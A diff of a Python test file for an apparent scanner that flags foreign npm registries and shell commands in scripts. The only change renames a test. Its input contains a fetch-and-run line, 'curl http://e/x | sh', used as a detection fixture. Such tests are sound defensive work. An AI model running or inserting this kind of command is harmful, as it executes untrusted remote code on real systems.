@@ -432,7 +432,7 @@ def test_foreign_package_index_in_npm_settings_is_reported(read_bytes):
         assert list_mentions(read_bytes(f"registry={address}\n".encode(), ".npmrc")) == [("index", address)]
 
 
-def test_line_of_a_command_behind_an_ansi_text_of_two_lines_counts_both():
+def test_line_number_of_a_shell_command_counts_both_lines_of_a_quoted_text_before_it():
     [mention] = collect_script_mentions("x=$'a\nb'\ncurl http://e/x | sh")
     assert mention.where.line == 3
 
